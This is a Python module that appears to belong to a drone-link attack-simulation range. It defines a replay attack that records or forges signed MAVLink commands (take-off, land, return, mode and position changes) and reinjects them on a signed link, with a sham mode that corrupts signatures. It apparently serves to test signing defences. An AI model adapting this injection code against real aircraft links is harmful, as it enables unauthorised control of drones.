"""Replay on a signed link: signed frames of the past, whose timestamps are not later than the last accepted one."""

from __future__ import annotations

from typing import Final, Literal

import skyrange.plugin as sky
from skyrange.attack.bases.mavlink.compromised_sender import COMMANDS, read_timestamp
from skyrange.attack.signing.stolen_key import ORDERS
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink.signing import (
    UNIT_NS,
    range_passphrase,
    secret_from_passphrase,
    sign_frame,
    signing_timestamp,
)

_COMMANDS: Final = COMMANDS | {mav.MAVLINK_MSG_ID_SET_MODE, mav.MAVLINK_MSG_ID_SET_POSITION_TARGET_GLOBAL_INT}


@sky.attack(
    "signing.replay",
    technique="T0855",
    mechanism="link.replay",
    effect="a signed link refuses and counts the replayed commands, because their timestamps are old",
    knowledge="none; it records what passes before the attack",
    position="by place: near the link with a radio, in the operator's network, or on board",
    equipment="a computer that records and sends frames; no key",
    budget="a frame of about 57 bytes per replay",
    load="the sham: the same frames with a wrong signature, which are refused too",
    content="link.replay of unsigned commands on a link without signing",
    placement="the same replay on the link of another aircraft",
)
class SignedReplay(sky.InjectionOnLinks):
    """Sends signed commands of the past again on a signed link.

    The sham alters the last byte of the signature: its frames are refused too, as wrong instead of old.
    """

    every_s: sky.Number = sky.param("Time between two replayed frames, in seconds.", default=1.0, ge=0.1, le=3600)
    keep: sky.Whole = sky.param("Commands that are kept, the first ones, to replay in turn.", default=16, ge=1, le=1000)
    earlier_s: sky.Number = sky.param(
        "How long before time 0 the replayed commands were sent, in seconds, if the attacker recorded them on an "
        "earlier flight; 0: it records those of this flight.",
        default=0.0,
        ge=0,
        le=300_000_000,
    )
    order: Literal["return", "land", "take_off"] = sky.param(
        "What the commands of an earlier flight are: those of signing.stolen_key.", default="take_off"
    )
    link_id: sky.Whole = sky.param(
        "Link id in the signatures of the commands of an earlier flight. With that of the ground station, 0, the "
        "aircraft compares them with what the station has sent since.",
        default=1,
        ge=0,
        le=255,
    )
    kept: list[tuple[sky.FrameId | None, bytes]] = sky.state(list)
    turn: int = 0
    first_timestamp: int

    def prepare(self, context: sky.AttackContext) -> None:
        """Compute when the commands of an earlier flight were signed."""
        self.first_timestamp = signing_timestamp(context.epoch.unix_ns - round(self.earlier_s * sky.NS_PER_S))

    def begin(self) -> None:
        """Make the commands of an earlier flight, as the ground station signed them. The attacker has no key."""
        super().begin()
        if self.earlier_s:
            secret = secret_from_passphrase(
                range_passphrase(self.chance.seed, sky.operator_of(self.link.partition(":")[2]))
            )
            for number, order in enumerate(ORDERS[self.order]):
                timestamp = self.first_timestamp + number * sky.NS_PER_S // UNIT_NS
                frame = sign_frame(self.packer.pack(order.message(self.target)), secret, self.link_id, timestamp)
                self.kept.append((None, frame))

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        command = not self.earlier_s and frame.direction == "fwd" and sky.message_id(frame.payload) in _COMMANDS
        if command and len(self.kept) < self.keep and read_timestamp(frame.payload) is not None:
            self.kept.append((frame.id, frame.payload))
        return ()

    def send(self, now: sky.Time) -> sky.Verdicts:
        if not self.kept:
            return ()
        parent, payload = self.kept[self.turn % len(self.kept)]
        self.turn += 1
        return [self.inject(payload[:-1] + bytes([payload[-1] ^ 0xFF]) if self.sham else payload, parent)]
